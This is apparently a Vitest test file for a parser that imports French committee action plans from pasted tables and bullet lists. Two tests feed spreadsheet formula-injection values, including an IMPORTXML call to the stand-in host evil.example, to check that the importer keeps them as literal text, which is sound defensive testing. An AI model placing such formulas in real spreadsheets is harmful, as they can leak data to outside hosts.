/**
 * Table layouts on synthetic pastes: year marks mapped to échéancier, columns found by label in any
 * order, blank objective = same as above, and formula-looking cells kept as literal text.
 */
import { describe, expect, it } from "vitest";
import { importPlan } from "../../../src/core/import/import-plan";
import { splitLetteredActions, yearsToEcheancier } from "../../../src/core/import/year-columns";

function plan(text: string) {
  const result = importPlan(text);
  if (!result.ok) throw new Error(result.error.en);
  return result.plan;
}

describe("year columns", () => {
  it("maps marks and text under the year columns", () => {
    const y = (a: string, b: string, c: string) =>
      yearsToEcheancier([
        { label: "2018-2019", value: a },
        { label: "2019-2020", value: b },
        { label: "2020-2021", value: c },
      ]);
    expect(y("X", "", "")).toBe("2018-2019");
    expect(y("X", "x", "X")).toBe("2018-2021");
    expect(y("", "X", "X")).toBe("2019-2021");
    expect(y("X", "", "X")).toBe("2018-2019, 2020-2021");
    expect(y("", "automne", "")).toBe("2019-2020 : automne");
    expect(y("", "", "")).toBe("");
  });

  it("reads a year table with marks", () => {
    const p = plan(
      [
        "AXE 1 : ORGANISATION",
        "BUTS\tOBJECTIFS\tACTIONS\t2018-2019\t2019-2020\t2020-2021\tREMARQUES",
        "1. Un but\t1.1 Un objectif\ta. faire ceci; b. faire cela.\tX\tX\t\tà revoir",
        "\t1.2 Autre\ta. encore\t\t\tX\t",
      ].join("\n"),
    );
    expect(p.layout).toBe("year-columns");
    expect(p.rows.map((r) => [r.objectif, r.moyens, r.echeancier, r.remarques])).toEqual([
      ["1.1 Un objectif", "faire ceci", "2018-2020", "AXE 1 : ORGANISATION — But : 1. Un but — à revoir"],
      ["1.1 Un objectif", "faire cela.", "2018-2020", "AXE 1 : ORGANISATION — But : 1. Un but — à revoir"],
      ["1.2 Autre", "encore", "2020-2021", "AXE 1 : ORGANISATION — But : 1. Un but"],
    ]);
  });

  it("splits lettered actions only at the next letter after ; or .", () => {
    expect(splitLetteredActions("a. voir le b. a.-ba; b. suite")).toEqual(["voir le b. a.-ba", "suite"]);
    expect(splitLetteredActions("sans lettres")).toEqual(["sans lettres"]);
  });
});

describe("six-column table", () => {
  it("finds columns by label in any order and carries a blank objective down", () => {
    const p = plan(
      [
        "Plan d'action : Comité X",
        "Échéancier\tMoyens\tObjectifs\tResponsables\tRésultats attendus",
        "mars 2025\tAffiche\tVisibilité\tAnne et Paul\tConnu",
        "avril 2025\tKiosque\t\tLina\t",
      ].join("\n"),
    );
    expect(p.layout).toBe("six-column-table");
    expect(p.header.comite).toBe("Comité X");
    expect(p.rows.map((r) => [r.objectif, r.moyens, r.responsables, r.echeancier, r.resultat])).toEqual([
      ["Visibilité", "Affiche", "Anne et Paul", "mars 2025", "Connu"],
      ["Visibilité", "Kiosque", "Lina", "avril 2025", ""],
    ]);
  });

  it("keeps formula-looking cells as literal text", () => {
    const p = plan(
      [
        "Objectifs\tRésultats attendus\tMoyens/Actions/Activités\tRessources requises\tResponsables\tÉchéancier",
        '=IMPORTXML("http://evil.example", "//a")\t+1\t@SUM(A1:A9)\t-2\t=1+1\t- mars 2025',
      ].join("\n"),
    );
    expect(p.rows).toEqual([
      {
        objectif: '=IMPORTXML("http://evil.example", "//a")',
        resultat: "+1",
        moyens: "@SUM(A1:A9)",
        ressources: "-2",
        responsables: "=1+1",
        echeancier: "mars 2025",
        remarques: "",
      },
    ]);
  });
});

describe("bullet layouts keep formula-looking text", () => {
  it("strips the `- ` marker but keeps `-2`, `=…`, `+…`, `@…` in the action", () => {
    const p = plan(
      [
        "1. Orientation",
        '1.1 =HYPERLINK("x")',
        "- -2 membres à recruter (mars 2025)",
        "- =IMPORTXML(A1, B2) (mandat complet)",
        "- +1 rencontre",
        "- @SUM(A1) (2025)",
      ].join("\n"),
    );
    expect(p.rows.map((r) => [r.objectif, r.moyens, r.echeancier])).toEqual([
      ['1.1 =HYPERLINK("x")', "-2 membres à recruter", "mars 2025"],
      ['1.1 =HYPERLINK("x")', "=IMPORTXML(A1, B2)", "mandat complet"],
      ['1.1 =HYPERLINK("x")', "+1 rencontre", ""],
      ['1.1 =HYPERLINK("x")', "@SUM(A1)", "2025"],
    ]);
  });
});

describe("plain bullet lists without numbering", () => {
  it("reads dated bullet groups under plain headings as layout unknown", () => {
    const p = plan(
      [
        "Plan d'action : Comité jeunes",
        "Période : 2025-2026",
        "",
        "Recruter de nouveaux membres",
        "- Tenir un kiosque à la rentrée (septembre 2025)",
        "- Relancer les anciens membres (mi-octobre)",
        "",
        "Nos partenaires",
        "- Centraide",
        "- Fondaction",
      ].join("\n"),
    );
    expect(p.layout).toBe("unknown");
    expect(p.header).toEqual({
      titre: "Plan d'action : Comité jeunes",
      comite: "Comité jeunes",
      periode: "2025-2026",
    });
    expect(p.rows.map((r) => [r.objectif, r.moyens, r.echeancier])).toEqual([
      ["Recruter de nouveaux membres", "Tenir un kiosque à la rentrée", "septembre 2025"],
      ["Recruter de nouveaux membres", "Relancer les anciens membres", "mi-octobre"],
    ]);
    expect(p.skippedLists).toEqual([{ title: "Nos partenaires", items: ["Centraide", "Fondaction"] }]);
  });
});
